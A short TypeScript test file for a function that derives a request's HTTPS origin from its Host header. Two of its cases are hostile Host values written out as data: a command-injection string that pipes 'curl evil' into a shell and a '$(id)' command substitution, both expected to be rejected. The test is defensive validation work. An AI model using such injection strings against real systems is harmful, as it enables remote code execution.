import { expect } from 'chai';
import { requestedOrigin } from './origin.js';

describe('G1 the address that a request came by', () => {
  // prettier-ignore
  const cases: ReadonlyArray<[title: string, host: string | undefined, origin: string]> = [
    ['a name',                      'farm.example',       'https://farm.example'],
    ['a name with a port',          'farm.example:7080',  'https://farm.example:7080'],
    ['an address of IPv6',          '[fe80::1]:7080',     'https://[fe80::1]:7080'],
    ['no Host',                     undefined,            'https://localhost'],
    ['a Host that a shell runs',    'x;curl evil|sh',     'https://localhost'],
    ['a Host with a substitution',  '$(id).example',      'https://localhost'],
  ];
  for (const [title, host, origin] of cases) {
    it(`is taken from ${title}`, () => {
      expect(requestedOrigin({ protocol: 'https', headers: host === undefined ? {} : { host } })).to.equal(origin);
    });
  }
});
